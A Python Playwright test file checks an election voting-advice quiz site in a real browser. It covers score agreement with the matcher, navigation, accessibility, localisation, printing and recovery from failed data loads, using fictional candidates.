"""The quiz in a real browser: it says what `cmpgen match` says, to everyone, and tells nobody."""

from __future__ import annotations

import datetime
import functools
import gzip
import http.server
import os
import random
import re
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from babel.numbers import format_decimal
from playwright.sync_api import Browser, Locator, Page, Route, expect

from cmpgen.scores.match import Voter
from tests.browser.quizzing import ANSWER, answer, compare, compiled, open_quiz, shown
from tests.conftest import QuietHandler
from tests.helpers import ELECTION, PATIENCE, ROOT, build_site, until, write_project

Served = Callable[[Path], str]


def gap(page: Page, above: str, below: str) -> float:
    """How many pixels lie between the first elements of these selectors."""
    upper, lower = page.locator(above).first.bounding_box(), page.locator(below).first.bounding_box()
    assert upper and lower
    return float(lower["y"] - upper["y"] - upper["height"])


@pytest.mark.parametrize("language", ["", "fr/"])
@pytest.mark.parametrize("constituency", ["alder-vale", "high-orchards"])
def test_the_page_says_what_match_says(
    page: Page, served: Served, example_site: Path, constituency: str, language: str
) -> None:
    compare(page, served(example_site), compiled(ROOT), constituency, 10, language)


def test_nothing_is_chosen_beforehand_and_a_voter_who_skips_everything_gets_no_ranking(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    assert page.locator("input:checked").count() == 0
    for skip in page.locator(".choice--skip input").all():
        skip.check()

    assert page.locator(".result").count() == 0
    assert page.locator("[data-slot=nothing]").is_visible()
    assert not page.locator("[data-slot=summary]").is_visible()


def test_one_answer_is_compared_and_can_be_taken_back(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    page.locator("fieldset").first.locator("label").first.click()
    some = shown(page)
    page.locator("fieldset").first.locator(".choice--skip").click()
    none = shown(page)

    assert some["results"] and all(each["answered"] == 1 for each in some["results"] + some["apart"])
    assert none == {"results": [], "apart": []}


def test_an_open_breakdown_stays_open_and_right_when_an_answer_changes(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    first = page.locator("fieldset").first
    first.locator("label").nth(0).click()
    page.locator('.result[data-candidate="ada-obi"] summary').click()
    mine = page.locator('.result[data-candidate="ada-obi"] [data-slot="mine"]')
    expect(mine).to_have_text(["Strongly disagree"], use_inner_text=True)

    first.locator("label").nth(3).click()

    assert mine.all_inner_texts() == ["Agree"]


def test_a_question_of_a_score_leads_back_to_its_answer(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, Voter({"free-buses": 0, "new-stadium": 1}))

    page.locator('.result .part[data-question="new-stadium"] a').first.click()

    expect(page.locator('fieldset[data-question="new-stadium"]')).to_be_focused()
    page.go_back()
    until(lambda: page.evaluate("document.querySelector('#results').getBoundingClientRect().top < innerHeight"), page)


def from_a_score(page: Page, candidate: str, question: str) -> Locator:
    """The link from a question of somebody's opened score to the question itself, brought 200 px down the screen."""
    item = page.locator(f'.result[data-candidate="{candidate}"]')
    if item.locator("details[open]").count() == 0:
        item.locator("summary").click()
    link = item.locator(f'.part[data-question="{question}"] [data-slot=question]')
    link.evaluate("(each) => scrollTo(0, each.getBoundingClientRect().top + scrollY - 200)")
    return link


def focus_and_top(page: Page, selector: str) -> tuple[bool, float]:
    """Whether an element has the focus, and how many pixels down the screen it stands."""
    return tuple(
        page.locator(selector).evaluate("(each) => [document.activeElement === each, each.getBoundingClientRect().top]")
    )


def to_the_results(page: Page) -> None:
    """Follow the way to the results. A browser moves the focus and the page only when it has gone there."""
    page.locator(".quiz__bar a").click()
    expect(page.locator("#results")).to_be_focused()


def percents(page: Page) -> list[str]:
    return page.locator(".result__percent:visible").all_inner_texts()


ADAS_STADIUM = '.result[data-candidate="ada-obi"] .part[data-question="new-stadium"] [data-slot=question]'
SOME = Voter({"free-buses": 0, "new-stadium": 1, "top-income-tax": 2, "sunday-shops": 3, "rent-cap": 1})


@pytest.mark.parametrize("width", [360, 1280])
def test_from_a_question_of_a_score_one_click_leads_back_to_that_score_which_has_changed(
    new_page: Callable[..., Page], served: Served, example_site: Path, width: int
) -> None:
    page = new_page(viewport={"width": width, "height": 800})
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, SOME)
    to_the_results(page)
    before = percents(page)

    from_a_score(page, "ada-obi", "new-stadium").click()
    question = page.locator('fieldset[data-question="new-stadium"]')
    expect(question).to_be_focused()
    question.locator("label").nth(4).click()
    at_once = percents(page)
    back = page.locator("[data-slot=back]")
    said, shown_there = (
        back.inner_text(),
        page.locator('.result[data-candidate="ada-obi"] .result__percent').inner_text(),
    )
    back.click()
    # A browser may tell only now that the breakdown is open.
    page.locator('.result[data-candidate="ada-obi"] details').dispatch_event("toggle")

    assert at_once != before and question.locator("[data-slot=back]").count() == 0
    assert said == f"Back to Ada Obi’s score, now {shown_there}"
    # A browser scrolls by whole pixels.
    assert focus_and_top(page, ADAS_STADIUM) == (True, pytest.approx(200, abs=2))
    assert page.locator('.result[data-candidate="ada-obi"] details').get_attribute("open") is not None
    assert page.locator("[data-slot=back]").count() == 0
    mine = page.locator('.result[data-candidate="ada-obi"] .part[data-question="new-stadium"] [data-slot=mine]')
    assert mine.inner_text() == "Strongly agree"


@pytest.mark.parametrize("way", [["Escape"], ["Tab", "Enter"]])
def test_with_the_keyboard_too_a_score_leads_to_a_question_and_that_leads_back(
    page: Page, served: Served, example_site: Path, way: list[str]
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, SOME)
    before = percents(page)

    from_a_score(page, "ada-obi", "new-stadium").focus()
    # The browser brings what is focused into view as it likes.
    _, top = focus_and_top(page, ADAS_STADIUM)
    page.keyboard.press("Enter")
    expect(page.locator('fieldset[data-question="new-stadium"]')).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("ArrowDown")
    for key in way:
        page.keyboard.press(key)

    assert percents(page) != before
    assert focus_and_top(page, ADAS_STADIUM) == (True, pytest.approx(top, abs=2))


def test_a_question_that_no_longer_counts_leads_back_to_the_score_without_it(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, Voter({"free-buses": 0, "new-stadium": 1}))

    def skip_and_come_back(question: str) -> None:
        from_a_score(page, "ada-obi", question).click()
        asked = page.locator(f'fieldset[data-question="{question}"]')
        expect(asked).to_be_focused()
        asked.locator(".choice--skip").click()
        page.locator("[data-slot=back]").click()

    skip_and_come_back("new-stadium")
    without_it = focus_and_top(page, '.result[data-candidate="ada-obi"] summary')
    skip_and_come_back("free-buses")

    assert without_it == (True, pytest.approx(200, abs=2))
    assert page.evaluate("document.activeElement.id") == "results"


def test_the_way_back_from_an_unranked_candidates_answers_is_called_that(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/old-harbour/quiz/")
    answer(page, Voter({"free-buses": 0, "harbour-tax": 1, "top-income-tax": 1}))

    from_a_score(page, "nadia-oulmesk", "free-buses").click()

    assert page.locator("[data-slot=back]").inner_text() == "Back to Nadia Oulmesk’s answers"


def test_every_answer_and_comment_of_a_score_says_whose_words_it_is(page: Page, served: Served, tmp_path: Path) -> None:
    kinds = ["candidate", "manifesto", "press", "vote", "volunteer"]
    found = {kind: f"\n    position: agree\n    source:\n      kind: {kind}\n      quote: Quoted." for kind in kinds}
    said = {
        "own": " agree",
        "own-words": "\n    position: agree\n    comment: My words.",
        "none": " no-position",
        "remark": "\n    comment: My remark.",
        "silent": "",
        "quote": "\n    source:\n      kind: press\n      quote: Quoted.",
        **found,
    }
    questions = "".join(f"- id: {id_}\n  text: The town should do thing {id_}.\n" for id_ in said)
    answers = "".join(f"  {id_}:{rest}\n" for id_, rest in said.items())
    files = {
        "questionnaires/demo/questions.yaml": questions,
        "candidates/demo/south/ada.yaml": f"name: Ada Obi\nreply: answered\nanswers:\n{answers}",
    }
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    open_quiz(page, f"{served(site)}/demo/south/quiz/")

    answer(page, Voter(dict.fromkeys(said, 0)))

    rows = {id_: page.locator(f'.part[data-question="{id_}"] .part__said').inner_text().split("\n") for id_ in said}
    assert {id_: [line for line in lines[1:-1] if line] for id_, lines in rows.items()} == {
        "own": ["Ada Obi answered: Agree"],
        "own-words": ["Ada Obi answered: Agree", "My words."],
        "none": ["Ada Obi: Was asked, took no position", "Ada Obi answered"],
        "remark": ["Ada Obi answered: A comment, but no position", "My remark."],
        "silent": ["Ada Obi: No answer"],
        "quote": ["Ada Obi: A source, but no position", "Quoted.", "Found by volunteers in the press"],
        "candidate": ["Ada Obi: Agree", "Quoted.", "Found by volunteers in what Ada Obi said elsewhere"],
        "manifesto": ["Ada Obi: Agree", "Quoted.", "Found by volunteers in a manifesto"],
        "press": ["Ada Obi: Agree", "Quoted.", "Found by volunteers in the press"],
        "vote": ["Ada Obi: Agree", "Quoted.", "Found by volunteers in the record of a vote"],
        "volunteer": ["Ada Obi: Agree", "Quoted.", "Volunteers’ reading"],
    }


def test_a_score_says_where_nobody_recorded_whose_words_a_comment_is(
    page: Page, served: Served, tmp_path: Path
) -> None:
    files = {"candidates/demo/south/ada.yaml": "name: Ada Obi\nanswers:\n  free-buses:\n    comment: Hi there.\n"}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    open_quiz(page, f"{served(site)}/demo/south/quiz/")

    answer(page, Voter({"free-buses": 0}))

    lines = page.locator(".part__said").inner_text().split("\n")
    assert [line for line in lines if line][1:] == [
        "Ada Obi: A comment, but no position",
        "Hi there.",
        "Where these words come from is not recorded.",
    ]


def test_a_question_that_is_left_out_does_not_count_as_answered(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    answer(page, Voter({"free-buses": 0, "new-stadium": 1}, {"free-buses": 0}))

    assert page.locator(".quiz__count").inner_text() == "Answered: 1 of 15"
    assert {each["answered"] for each in shown(page)["results"]} == {1}


def test_who_leaves_all_answers_out_is_told_so_and_not_to_answer(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    answer(page, Voter({"free-buses": 0}, {"free-buses": 0}))

    assert not page.locator("[data-slot=nothing]").is_visible()
    assert page.locator("[data-slot=left-out]").is_visible()
    answer(page, Voter({"free-buses": 0}))
    assert not page.locator("[data-slot=left-out]").is_visible()


def test_who_has_answered_all_that_is_asked_is_not_told_to_answer_more(
    page: Page, served: Served, tmp_path: Path
) -> None:
    files = {"candidates/demo/south/ada.yaml": "name: Ada\nreply: answered\nanswers:\n  free-buses: agree\n"}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    open_quiz(page, f"{served(site)}/demo/south/quiz/")
    few, all_few = page.locator("[data-slot=few]"), page.locator("[data-slot=all-few]")

    answer(page, Voter({"free-buses": 3}))
    assert few.is_visible() and not all_few.is_visible()
    answer(page, Voter({"free-buses": 3, "school-language": 0}))
    assert all_few.is_visible() and not few.is_visible()


@pytest.mark.parametrize("language", ["en", "fr"])
def test_scripts_write_numbers_as_templates_do(page: Page, served: Served, example_site: Path, language: str) -> None:
    folder = "" if language == "en" else f"{language}/"
    page.goto(f"{served(example_site)}/{folder}riverland-2027/north-bank/quiz/")

    written = page.evaluate(
        """async () => {
          const { fill, slot } = await import("/static/js/slots.js");
          fill(document, "so-far", 12345);
          return slot(document, "so-far").textContent;
        }"""
    )

    assert written == format_decimal(12345, locale=language)


@pytest.mark.parametrize("language", ["", "fr/"])
@pytest.mark.parametrize("width", [320, 360])
def test_on_a_phone_the_first_result_follows_the_announcement_and_each_fact_has_a_line(
    new_page: Callable[..., Page], served: Served, example_site: Path, width: int, language: str
) -> None:
    page = new_page(viewport={"width": width, "height": 800})
    open_quiz(page, f"{served(example_site)}/{language}riverland-2027/north-bank/quiz/")

    answer(page, SOME)

    between = page.evaluate(
        """() => {
          const slots = [...document.querySelectorAll("#results > *")].map((each) => each.dataset.slot);
          return slots.slice(1, slots.indexOf("cards"));
        }"""
    )
    assert between == ["nothing", "left-out", "summary", "news", "few", "all-few", "notes-unreachable"]
    assert gap(page, "#results-heading", ".result") < 260
    lines = page.locator(".result__facts > p:visible").evaluate_all(
        "(all) => all.map((each) => each.offsetHeight / parseFloat(getComputedStyle(each).lineHeight))"
    )
    assert len(lines) == 14 and max(lines) < 1.5
    assert page.locator("text=/Reloading|Recharger/").count() == 1


def test_results_are_found_by_their_headings(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/old-harbour/quiz/")

    answer(page, Voter({"free-buses": 0, "harbour-tax": 2, "school-language": 1}))

    headings = page.locator("#results :is(h2, h3, h4)").evaluate_all(
        "(all) => all.map((each) => [each.localName, (each.querySelector('bdi') ?? each).textContent])"
    )
    names = page.locator(".result bdi:first-child").count()
    assert [level for level, _ in headings[:3]] == ["h2", "h3", "h4"]
    assert ["h3", "Not compared"] in headings and ["h4", "Nadia Oulmesk"] in headings
    assert sum(level == "h4" for level, _ in headings) == page.locator(".result").count() <= names


@pytest.mark.parametrize("direction", ["ltr", "rtl"])
@pytest.mark.parametrize(("width", "least"), [(320, 280), (360, 320), (1280, 500)])
def test_the_range_is_drawn_on_a_long_scale_with_ticks_and_without_a_style_of_its_own(
    new_page: Callable[..., Page], served: Served, example_site: Path, width: int, least: int, direction: str
) -> None:
    page = new_page(viewport={"width": width, "height": 800})
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    page.evaluate("(direction) => { document.documentElement.dir = direction; }", direction)
    answer(page, SOME)

    drawn = page.locator(".result:not(.result--apart)").evaluate_all(
        """(all) => all.map((item) => {
          const track = item.querySelector(".result__track").getBoundingClientRect();
          const rtl = document.documentElement.dir === "rtl";
          const at = (x) => Math.round((rtl ? track.right - x : x - track.left) / track.width * 100);
          const middle = (each) => { const box = each.getBoundingClientRect(); return at((box.left + box.right) / 2); };
          const range = item.querySelector(".result__range").getBoundingClientRect();
          const number = (name) => Number(item.querySelector(`[data-slot=${name}]`).textContent);
          const said = ["percent", "low", "high"].map(number);
          const ends = rtl ? [range.right, range.left] : [range.left, range.right];
          return {
            length: track.width,
            ticks: [...item.querySelectorAll(".result__tick")].map(middle),
            numbers: [...item.querySelectorAll(".result__numbers > span")].map((each) => each.textContent),
            drawn: [middle(item.querySelector(".result__mark")), ...ends.map(at)],
            said: said[1] === said[2] ? [said[0], null, null] : said,
          };
        })"""
    )

    assert len(drawn) > 4 and any(each["said"][1] is not None for each in drawn)
    for each in drawn:
        assert each["length"] >= least
        assert each["ticks"] == [0, 50, 100] and each["numbers"] == ["0", "50", "100"]
        assert all(seen == said for seen, said in zip(each["drawn"], each["said"], strict=True) if said is not None)
    assert page.locator("[style]").count() == 0


def follow(link: Locator) -> None:
    """Follow a link to a place on the page, and wait until the browser has gone there."""
    place = link.get_attribute("href") or ""
    link.click()
    expect(link.page).to_have_url(re.compile(f"{re.escape(place)}$"))


def test_one_can_go_from_topic_to_topic(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    topics = page.locator(".quiz__head h2")
    names = topics.all_inner_texts()

    page.locator(".quiz__jump summary").click()
    listed = page.locator(".quiz__jump a").all_inner_texts()
    follow(page.locator(".quiz__jump a").last)
    at_the_last = topics.last.evaluate("(each) => each.getBoundingClientRect().top")
    follow(page.locator(".quiz__next").first)
    page.keyboard.press("Tab")

    assert listed == names and len(names) > 4
    assert 0 <= at_the_last < 120
    assert page.evaluate("document.activeElement.closest('.quiz__topic').querySelector('h2').textContent") == names[1]
    assert page.locator(".quiz__next").count() == len(names) - 1
    assert gap(page, ".quiz__head", ".quiz-question__number") >= 8


def test_a_weight_is_a_quiet_menu_that_is_named_by_its_question(
    new_page: Callable[..., Page], served: Served, example_site: Path
) -> None:
    page = new_page(viewport={"width": 320, "height": 800})
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    menu = page.get_by_role("combobox", name="Buses should be free for everyone. Weight", exact=True)

    assert menu.count() == 1
    assert (
        max(page.locator(".quiz-question__weight").evaluate_all("(all) => all.map((each) => each.offsetHeight)")) <= 48
    )


def test_easy_words_wait_until_they_are_asked_for_and_stand_on_paper(
    page: Page, served: Served, example_site: Path
) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    easy = page.locator(".quiz-question__easy").first

    before = easy.is_visible()
    page.locator(".quiz-question .more summary").first.click()
    asked_for = easy.is_visible()
    page.locator(".quiz-question .more summary").first.click()
    page.emulate_media(media="print")

    assert (before, asked_for, easy.is_visible()) == (False, True, True)
    assert not page.locator(".quiz-question .backing").first.is_visible()


@pytest.mark.parametrize("width", [320, 360])
def test_in_a_language_of_long_words_the_bar_is_one_row(
    new_page: Callable[..., Page], served: Served, tmp_path: Path, width: int
) -> None:
    election = ELECTION.replace("languages: [en]", "languages: [cs]")
    files = {"questionnaires/demo/election.yaml": election, **candidates(2, "  free-buses: agree\n")}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    page = new_page(viewport={"width": width, "height": 800})
    open_quiz(page, f"{served(site)}/demo/north/quiz/")

    count, button = (page.locator(f".quiz__bar > {each}").bounding_box() for each in ("p", "a"))

    assert count and button and button["x"] >= count["x"] + count["width"]
    assert count["y"] < button["y"] + button["height"] and button["y"] < count["y"] + count["height"]
    assert page.locator(".quiz__bar").bounding_box()["height"] < 90
    assert page.evaluate("document.documentElement.scrollWidth") == width


def test_compare_leads_to_the_results(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")

    for _ in range(2):
        to_the_results(page)

        page.locator("fieldset").first.locator("label").first.click()


def test_a_changed_comparison_is_said_once_and_only_to_who_has_been_there(
    page: Page, served: Served, example_site: Path
) -> None:
    page.clock.install()
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    page.clock.pause_at(datetime.datetime.now() + datetime.timedelta(hours=1))
    labels = page.locator("fieldset").first.locator("label")
    news = page.locator("#results [role=status]")

    def said_after_an_answer(number: int) -> str:
        labels.nth(number).click()
        page.clock.run_for(2000)
        return news.inner_text()

    before = said_after_an_answer(0)
    to_the_results(page)
    labels.nth(1).click()
    at_once = news.inner_text()
    page.clock.run_for(2000)

    assert (before, at_once, news.inner_text()) == ("", "", "The comparison has changed.")
    assert page.locator("[role=status], [aria-live]").count() == 1


def test_all_answers_are_taken_back_in_two_steps(page: Page, served: Served, example_site: Path) -> None:
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    answer(page, Voter({"free-buses": 0, "new-stadium": 1}, {"free-buses": 2}))
    assert not page.locator("[data-slot=clear]").is_visible()

    page.locator(".results__end summary").click()
    page.locator("[data-slot=clear]").click()

    assert page.locator("input:checked").count() == 0 and page.locator(".result").count() == 0
    assert set(page.locator("form select").evaluate_all("all => all.map((each) => each.value)")) == {"1"}
    assert page.evaluate("document.activeElement === document.querySelector('fieldset')")
    assert not page.locator("[data-slot=clear]").is_visible()


def test_who_is_not_compared_is_told_above_the_ranking_with_the_reasons(
    page: Page, served: Served, tmp_path: Path
) -> None:
    people = {
        "ada": "reply: answered\nanswers:\n  free-buses: agree\n  new-stadium: agree\n",
        "bo": "reply: answered\nanswers:\n  school-language: both\n",
        "cy": "reply: declined\n",
        "di": "reply: declined\n",
        "eve": "status: withdrawn\n",
    }
    files = {f"candidates/demo/north/{id_}.yaml": f"name: {id_}\n{rest}" for id_, rest in people.items()}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    open_quiz(page, f"{served(site)}/demo/north/quiz/")

    answer(page, Voter({"free-buses": 3, "new-stadium": 3}))

    summary = page.locator("[data-slot=summary]")
    assert [line for line in summary.inner_text().split("\n") if line] == [
        "1 compared, 4 not:",
        "1 with a known position on fewer than 50% of the questions you answered",
        "2 with no known position",
        "1 withdrawn",
    ]
    assert summary.bounding_box()["y"] < page.locator(".result").first.bounding_box()["y"]
    apart = page.locator(".result--apart").all_inner_texts()
    lines = [[line for line in each.split("\n") if line] for each in apart]
    said = {each[1]: each[each.index("No party") + 1 :] for each in lines}
    assert said["bo"][:3] == ["Too few positions are known to compare fairly.", "Answered", "Known positions: 0 of 2"]
    assert said["cy"][:2] == ["No position is known on any question that is compared.", "Declined"]
    assert said["eve"][:2] == ["Has withdrawn.", "No reply on record"]
    listed = {each.split()[0]: each for each in page.locator(".quiz-candidates__list > li").all_inner_texts()}
    assert page.locator("#candidates").inner_text() == "Who stands here"
    assert [name for name, words in listed.items() if "has withdrawn" in words] == ["eve"]


def test_where_nobody_or_everybody_is_compared_the_page_says_so(page: Page, served: Served, tmp_path: Path) -> None:
    files = {"candidates/demo/north/ada.yaml": "name: Ada\nreply: answered\nanswers:\n  free-buses: agree\n"}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    open_quiz(page, f"{served(site)}/demo/north/quiz/")
    summary, headings = page.locator("[data-slot=summary]"), page.locator("#results h3:visible")

    answer(page, Voter({"free-buses": 3}))
    everybody = (summary.inner_text(), headings.all_inner_texts())
    answer(page, Voter({"new-stadium": 3}))

    assert everybody == ("1 compared, nobody left out.", ["Compared"])
    assert summary.inner_text().startswith("0 compared, 1 not:")
    assert headings.all_inner_texts() == ["Not compared"]
    assert headings.bounding_box()["height"] < 90


@pytest.fixture
def unwatched(browser: Browser) -> Iterator[Page]:
    """An empty page that may log faults."""
    page = browser.new_page()
    page.set_default_timeout(PATIENCE * 1000)
    yield page
    page.context.close()


def test_where_the_answers_cannot_be_loaded_one_can_try_again_and_keeps_what_was_chosen(
    unwatched: Page, served: Served, example_site: Path
) -> None:
    page = unwatched
    page.route("**/quiz.json*", lambda route: route.abort(), times=2)
    page.goto(f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    page.locator("[data-slot=unreachable]").wait_for(state="visible")
    assert not page.locator(".quiz-plain").is_visible()
    assert gap(page, ".quiz-fault .notice", ".quiz-fault button") >= 8
    fonts = "(all) => new Set(all.map((each) => getComputedStyle(each).fontFamily)).size"
    assert page.locator("body, .quiz-fault button").evaluate_all(fonts) == 1
    page.locator("fieldset").first.locator("label").first.click()

    again = page.locator("[data-slot=again]")
    again.focus()
    with page.expect_event("requestfailed"):
        page.keyboard.press("Enter")
    expect(again).to_be_focused()
    page.keyboard.press("Enter")
    page.locator(".result").first.wait_for(state="visible")

    assert not page.locator("[data-slot=unreachable]").is_visible()
    expect(page.locator("fieldset").first).to_be_focused()


def test_where_comments_cannot_be_loaded_the_scores_stand_and_one_can_try_again(
    unwatched: Page, served: Served, example_site: Path
) -> None:
    page = unwatched
    page.route("**/notes.json*", lambda route: route.abort(), times=2)
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    fault, again = page.locator("[data-slot=notes-unreachable]"), page.locator("[data-slot=notes-again]")
    failed = page.locator(".result [data-pending=failed]:visible")
    # There are no scores yet of which it could say that they are complete.
    until(lambda: page.locator(".result__more").count() == 0 and not fault.is_visible(), page)
    page.evaluate(ANSWER, [[("free-buses", 0), ("new-stadium", 1)], []])
    fault.wait_for(state="visible")
    results, comments = page.locator(".result").count(), page.locator(".part .words:visible")
    expect(failed).to_have_count(results)
    without = shown(page)
    assert comments.count() == 0
    assert gap(page, "[data-slot=notes-unreachable] .notice", "[data-slot=notes-again]") >= 8

    again.focus()
    page.keyboard.press("Enter")
    news = page.locator("[data-slot=news]")
    expect(news).to_have_text("Comments and sources could still not be loaded.")
    expect(again).to_be_focused()
    first = page.locator(".result").first
    top = first.evaluate("(each) => each.getBoundingClientRect().top + scrollY")
    page.keyboard.press("Enter")
    expect(page.locator("[data-slot=notes-here]")).to_be_focused()

    # A second click, on its way to the button, must not open what has moved there.
    assert first.evaluate("(each) => each.getBoundingClientRect().top + scrollY") == pytest.approx(top, abs=1)
    assert not again.is_visible() and page.locator("[data-slot=pending]:visible").count() == 0
    assert comments.count() > 0 and shown(page) == without
    page.locator("fieldset").first.locator("label").nth(1).click()
    expect(fault).not_to_be_visible()


def test_comments_that_come_late_are_told_in_the_rows_that_are_open(page: Page, served: Served, tmp_path: Path) -> None:
    files = {
        "questionnaires/demo/questions.yaml": "".join(f"- id: {id_}\n  text: Is it {id_}?\n" for id_ in "abcde"),
        "candidates/demo/south/ada.yaml": "name: Ada Obi\nreply: answered\nanswers:\n  a: agree\n  b: no-position\n"
        "  c:\n    position: agree\n    source:\n      kind: press\n  d:\n    comment: My remark.\n",
    }
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    held: list[Route] = []
    page.route("**/notes.json*", lambda route: held.append(route))
    open_quiz(page, f"{served(site)}/demo/south/quiz/")
    page.evaluate(ANSWER, [[(id_, 0) for id_ in "abcde"], []])
    expect(page.locator(".part")).to_have_count(5)
    link = page.locator('.part[data-question="d"] .part__question a')
    link.focus()

    def lines() -> list[str]:
        rows = [page.locator(f'.part[data-question="{id_}"] .part__said').inner_text() for id_ in "abcde"]
        return ["|".join(line for line in each.split("\n")[1:] if line) for each in rows]

    # Whose words they are is said only once that is known.
    early = ["Ada Obi: Agree", "Ada Obi: Was asked, took no position", "Ada Obi: Agree"]
    assert lines() == [*early, "Ada Obi: No position", "Ada Obi: No position"]
    until(lambda: len(held) == 1, page)
    held[0].continue_()
    expect(page.locator(".result [data-slot=pending]:visible")).to_have_count(0)

    assert lines() == [
        "Ada Obi answered: Agree",
        "Ada Obi: Was asked, took no position|Ada Obi answered",
        "Ada Obi: Agree|Found by volunteers in the press",
        "Ada Obi answered: A comment, but no position|My remark.",
        "Ada Obi: No answer",
    ]
    expect(link).to_be_focused()


@pytest.mark.parametrize(
    "other",
    [
        lambda told: {**told, "generation": "0000000000000000"},
        lambda told: {**told, "notes": told["notes"][:1]},
        lambda told: {**told, "notes": {}},
        lambda told: [],
    ],
)
def test_comments_that_are_not_those_of_the_quiz_are_not_shown(
    unwatched: Page, served: Served, example_site: Path, other: Callable[[Any], Any]
) -> None:
    def changed(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, json=other(response.json()))

    page = unwatched
    page.route("**/notes.json*", changed)
    open_quiz(page, f"{served(example_site)}/riverland-2027/north-bank/quiz/")
    page.evaluate(ANSWER, [[("free-buses", 0), ("new-stadium", 1)], []])
    expect(page.locator(".part").first).to_be_visible()

    expect(page.locator("[data-slot=notes-unreachable]")).to_be_visible()
    assert page.locator(".part .words:visible").count() == 0
    assert "answered:" not in page.locator(".parts").first.inner_text()


def test_after_an_update_the_quiz_is_there_again_whatever_a_cache_kept(page: Page, tmp_path: Path) -> None:
    files = {"candidates/demo/south/ada.yaml": "name: Ada\nreply: answered\nanswers:\n  free-buses: agree\n"}
    project = write_project(tmp_path / "project", files)
    site = build_site(project, tmp_path / "site")

    class Keeping(QuietHandler):
        def end_headers(self) -> None:
            if ".json" in self.path:
                self.send_header("Cache-Control", "max-age=86400")
            super().end_headers()

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Keeping, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        open_quiz(page, f"http://127.0.0.1:{server.server_port}/demo/south/quiz/")
        write_project(project, {"candidates/demo/south/bo.yaml": "name: Bo\n"})
        build_site(project, site)
        # A server tells changes by the second.
        later = time.time() + 60
        os.utime(site / "demo/south/quiz/index.html", (later, later))

        page.reload()

        page.wait_for_selector("#results:not([hidden])")
        assert page.locator("[data-candidate]").count() == 2
    finally:
        server.shutdown()
        server.server_close()


def test_a_theme_that_lacks_a_place_for_scores_says_what_it_says_without_javascript(
    unwatched: Page, served: Served, tmp_path: Path
) -> None:
    result = (ROOT / "theme/templates/parts/quiz-result.html").read_text(encoding="utf-8")
    files = {
        "candidates/demo/south/ada.yaml": "name: Ada\nreply: answered\nanswers:\n  free-buses: agree\n",
        "theme/templates/parts/quiz-result.html": result.replace('data-slot="pending"', ""),
    }
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")

    open_with_a_fault(unwatched, f"{served(site)}/demo/south/quiz/", "quiz")

    assert unwatched.locator(".quiz-plain").is_visible() and not unwatched.locator("#results").is_visible()


def test_where_nobody_comments_nothing_is_asked_for(page: Page, served: Served, tmp_path: Path) -> None:
    files = {"candidates/demo/south/ada.yaml": "name: Ada\nreply: answered\nanswers:\n  free-buses: agree\n"}
    site = build_site(write_project(tmp_path / "project", files), tmp_path / "site")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    open_quiz(page, f"{served(site)}/demo/south/quiz/")

    answer(page, Voter({"free-buses": 0}))

    assert "Ada answered: Agree" in page.locator(".part__said").inner_text()
    assert [each.rpartition("/")[2].partition("?")[0] for each in asked if ".json" in each] == ["quiz.json"]
    assert not (site / "demo/south/quiz/notes.json").exists()


def seen_on_paper(page: Page, selector: str) -> bool:
    return any(each.is_visible() for each in page.locator(selector).all())


def test_the_printed_quiz_is_a_sheet_of_questions(
    new_page: Callable[..., Page], served: Served, example_site: Path
) -> None:
    for scripted in (True, False):
        page = new_page(java_script_enabled=scripted)
        address = f"{served(example_site)}/riverland-2027/north-bank/quiz/"
        if scripted:
            open_quiz(page, address)
        else:
            page.goto(address)
        page.emulate_media(media="print")

        shown_there = page.locator("main").inner_text()
        boxes = page.locator(".choice:not(.choice--skip) .choice__input")
        assert boxes.count() > 60 and page.locator(".choice__input:visible").count() == boxes.count()
        assert "https://riverland.example.org/riverland-2027/north-bank/quiz/" in shown_there
